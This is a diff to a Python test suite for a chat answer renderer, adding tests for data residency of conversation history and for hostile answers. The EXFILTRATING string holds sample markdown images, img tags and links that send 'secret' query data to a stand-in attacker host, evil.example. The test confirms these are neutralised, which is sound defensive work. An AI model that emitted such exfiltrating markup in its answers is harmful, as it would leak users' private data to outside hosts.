@@ -59,7 +59,7 @@ def cited(n: int = 1, text: str = HOSTILE, highlights: list[str] | None = None, 
 def quoted(**kw: Any) -> Answer:
     text = "Staff get 26 days of leave a year. [1]"
     citation = cited(highlights=["Staff get 26 days of leave a year."])
-    route = {"use_case": "default", "residency": "local", "support": 0.91}
+    route = {"use_case": "default", "residency": "local", "history_residency": "local", "support": 0.91}
     return Answer(text, [citation], False, "extractive", Usage(12, 9), {"total_ms": 40.0}, route=route, kind="quoted", **kw)
 
 
@@ -187,8 +187,10 @@ class Stand:
         self.home = home
         self.settings = SimpleNamespace(core=SimpleNamespace(routing=routing))
         self.answer: Answer | None = None
+        self.calls: list[dict[str, Any]] = []
 
     def stream(self, question: str, **kwargs: Any) -> Iterator[Any]:
+        self.calls.append({"question": question, **kwargs})
         assert self.answer is not None
         yield self.answer.text
         yield self.answer
@@ -238,3 +240,41 @@ def test_the_generative_mode_is_offered_when_configured(page: Page) -> None:
     assert page.modes == [("Auto", "auto"), ("Generative", "generative")]
     assert page.mode_value("generative") == "generative" and page.mode_value("reasoning") is None
     assert ("Generative", "generative") not in mode_choices({"default": ["extractive"], "image": ["stability"]})
+
+
+# ------------------------------------------------------------ hostile answers (finding 5)
+
+EXFILTRATING = (
+    "Staff get 26 days. ![chart](https://evil.example/c.png?q=26+days) <img src=https://evil.example/i.png>\n\n"
+    "See [the policy](https://intranet.example.com/leave), [the original](files/d1), "
+    "[click here](https://evil.example/?q=secret) and https://evil.example/bare?q=secret.\n\n"
+    "![ref][r]\n\n[r]: https://evil.example/ref.png\n\n`![code](https://evil.example/x)` stays code."
+)
+
+
+def test_an_answer_names_no_remote_image_and_links_only_to_allowed_origins() -> None:
+    answer = Answer(EXFILTRATING, [], False, "local", route={"residency": "local"}, kind="generated")
+    turn = SimpleNamespace(id=1, answer=None, images=[], question="q", error="", rendered=None, partial=EXFILTRATING)
+    streamed = render.answer_content(turn, ["https://intranet.example.com"])  # type: ignore[arg-type]
+    turn.answer = answer
+    final = render.answer_content(turn, ["https://intranet.example.com"])  # type: ignore[arg-type]
+    for html in (streamed, final):
+        prose = html.split("`![code]")[0]
+        assert "](https://evil" not in prose and "<img" not in prose and "![" not in prose, html
+        assert "[image: chart]" in prose and "&lt;img" in prose
+        assert "[the policy](https://intranet.example.com/leave)" in prose and "[the original](files/d1)" in prose
+        assert "click here (`https://evil.example/?q=secret`)" in prose and "`https://evil.example/bare?q=secret`" in prose
+        assert "`![code](https://evil.example/x)` stays code." in html
+
+
+def test_each_turn_of_the_history_carries_its_residency(page: Page) -> None:
+    """The page tells the pipeline where each earlier turn ran, so a private turn never
+    becomes history for a less private provider."""
+    ask(page, "ana", quoted())
+    ask(page, "ana", quoted())
+    text = quoted().text
+    assert page.assistant.calls[0]["history"] == []
+    assert page.assistant.calls[1]["history"] == [
+        {"role": "user", "content": "a question", "residency": "local"},
+        {"role": "assistant", "content": text, "residency": "local"},
+    ]
